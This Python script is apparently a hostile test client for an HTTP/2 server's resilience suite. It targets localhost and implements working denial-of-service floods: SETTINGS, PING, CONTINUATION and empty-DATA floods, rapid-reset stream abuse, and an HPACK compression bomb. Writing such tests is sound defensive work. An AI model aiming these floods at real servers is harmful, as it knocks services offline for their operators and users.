#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A hostile client: floods the port until its connection is cut off, and comes back at once, until it is ended; or lingers.

    attacker.py ATTACK PORT

Sections are those of RFC 9113.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys
from collections.abc import Callable, Iterator

from frames import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from lingering import CALL, LINGERING, linger

PRIORITY, CONTINUATION = 2, 9  # 6
CANCEL = 8  # 7
AT_ONCE = 200  # frames, or streams, in one write
LAST_STREAM = 2**31 - 1
# A literal that enters HPACK's table and fills it, then references to it: 64 KiB and more, in 2 KiB.
BOMB = CALL + b"\x40\x01x\x7f\xcd\x1d" + b"b" * 3916 + b"\xbe" * 2000

Writes = Iterator[bytes]


def same(*frames: bytes) -> Writes:
    """For ever."""
    text = b"".join(frames) * AT_ONCE
    while True:
        yield text


def each_stream(frames: Callable[[int], bytes], at_once: int = AT_ONCE) -> Writes:
    """Of streams that nobody has used yet, until there are no more."""
    for first in range(1, LAST_STREAM - 2 * at_once, 2 * at_once):
        yield b"".join(frames(stream) for stream in range(first, first + 2 * at_once, 2))


def request(stream: int, flags: int = END_HEADERS) -> bytes:
    return frame(HEADERS, flags, stream, CALL)


def behind(first: bytes, then: Writes) -> Writes:
    yield first
    yield from then


FLOODS: dict[str, Callable[[], Writes]] = {
    "SETTINGS": lambda: same(frame(SETTINGS, 0, 0)),
    "PING": lambda: same(frame(PING, 0, 0, bytes(8))),
    "PRIORITY": lambda: same(frame(PRIORITY, 0, 9, bytes(5))),
    "WINDOW_UPDATE": lambda: same(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "empty DATA": lambda: behind(request(1), same(frame(DATA, 0, 1))),
    "CONTINUATION": lambda: behind(request(1, 0), same(frame(CONTINUATION, 0, 1))),
    "rapid reset": lambda: each_stream(
        lambda stream: request(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))),
    "faults of its own": lambda: each_stream(lambda stream: request(stream) * 2),  # trailers that do not end it
    "HPACK bomb": lambda: each_stream(
        lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, BOMB), at_once=10),
}


ATTACKS = (*FLOODS, *LINGERING)


def flood(writes: Writes, port: int) -> None:
    """Until the peer has had enough. Reads nothing of what it says."""
    # From an address of its own: to nodeway it is another caller than the one that behaves well.
    with socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0)) as peer:
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for text in writes:
            peer.sendall(text)


def main() -> None:
    name, port = sys.argv[1], int(sys.argv[2])

    def tell() -> None:
        print(json.dumps({"attacks": port}), flush=True)

    if name in LINGERING:
        linger(LINGERING[name], port, tell)
    tell()
    while True:
        with contextlib.suppress(ConnectionError):
            flood(FLOODS[name](), port)


if __name__ == "__main__":
    main()
